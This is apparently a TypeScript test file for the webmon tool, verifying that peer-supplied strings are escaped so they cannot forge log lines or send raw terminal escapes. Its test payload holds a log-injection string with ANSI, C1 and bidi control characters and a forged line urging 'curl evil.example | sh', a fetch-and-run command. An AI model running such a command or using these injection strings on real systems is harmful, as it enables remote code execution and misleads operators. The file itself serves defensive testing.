/**
 * Log injection: strings a napari peer chooses (ring names, `napari_data` keys, message kinds, Python's
 * error texts) reach webmon's stderr. A newline and ANSI escapes in one of them must not forge a line or
 * reach the terminal raw. The real `webmon` attached with `--connect` to a real napari-style manager
 * (CPython, `@webmon/test-python`'s fixture).
 */
import { NapariFixture, findInterpreters } from '@webmon/test-python';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, startProcess, startWebmon, type Proc } from './helpers.js';

const PYTHON = findInterpreters().at(-1)?.path ?? 'python3';
const FORGED = 'webmon error [FAKE]: napari is compromised, run curl evil.example | sh';
/** A newline, then a red forged error line, then a reset: what a hostile napari names things. */
const EVIL = `x\n\u001b[31m${FORGED}\u001b[0m\r\u009b2K\u202e`;
/** How webmon writes it: every control character as an escape, on the one line. */
const ESCAPED = `x\\n\\x1b[31m${FORGED}\\x1b[0m\\r\\x9b2K\\u202e`;

let fixture: NapariFixture;
let webmon: Proc;

beforeAll(async () => {
  fixture = await NapariFixture.start(PYTHON, { FIXTURE_SHARED_LIST: '0' });
}, 60_000);

afterAll(async () => {
  await webmon?.stop();
  await fixture?.stop();
});

describe('peer strings in the log', () => {
  it('are escaped: no raw ESC or newline from napari, no forged line, the escaped text still readable', async () => {
    ({ proc: webmon } = await startWebmon(['--port', '0', '--connect', `127.0.0.1:${fixture.port}`, '--log-level', 'debug']));
    // webmon_rings keys and a ring name (the ring cannot be opened: webmon names it), a message kind.
    await fixture.command('set_data', { value: { webmon_rings: { [EVIL]: 'wmr_nonexistent', evil_name: EVIL } } });
    await fixture.command('put_raw', { value: { [EVIL]: { n: 1 } } });
    // A value Python cannot pickle: webmon reports the key (JSON.stringify leaves C1 and bidi controls raw).
    await fixture.command('set_data_unpicklable', { key: EVIL });
    await webmon.waitFor(/cannot open ring x\\n\\x1b\[31mwebmon error \[FAKE\]/, 30_000);
    await webmon.waitFor(/ignored an invalid data "x\\n/, 30_000);
    const stderr = webmon.stderr();
    expect(stderr).not.toContain('\u001b');
    expect(stderr).not.toContain('\u009b');
    expect(stderr).not.toContain('\u202e');
    expect(stderr).not.toContain('\r');
    expect(stderr).not.toMatch(/^\S*webmon error \[FAKE\]/m);
    // Every line is one of ours.
    for (const line of stderr.split('\n').filter((text) => text !== '')) expect(line).toMatch(/^webmon( warn| error| debug)?: /);
    expect(stderr).toContain(`cannot open ring ${ESCAPED} for napari.evil_name`);
  });

  it('are escaped in the error line webmon exits with', async () => {
    // The address is part of the message, as a peer's error text would be; it fails at the lookup.
    const proc = startProcess(process.execPath, [CLI, '--port', '0', '--connect', `${EVIL.replace(/:/g, ';')}:5`]);
    expect(await proc.exited(60_000)).not.toBe(0);
    const stderr = proc.stderr();
    expect(stderr).toMatch(/^webmon error \[WEBMON_NAPARI_UNREACHABLE\]: cannot reach napari's manager at x\\n\\x1b\[31mwebmon error \[FAKE\]/m);
    expect(stderr).not.toContain('\u001b');
    expect(stderr).not.toMatch(/^\S*webmon error \[FAKE\]/m);
  });
});
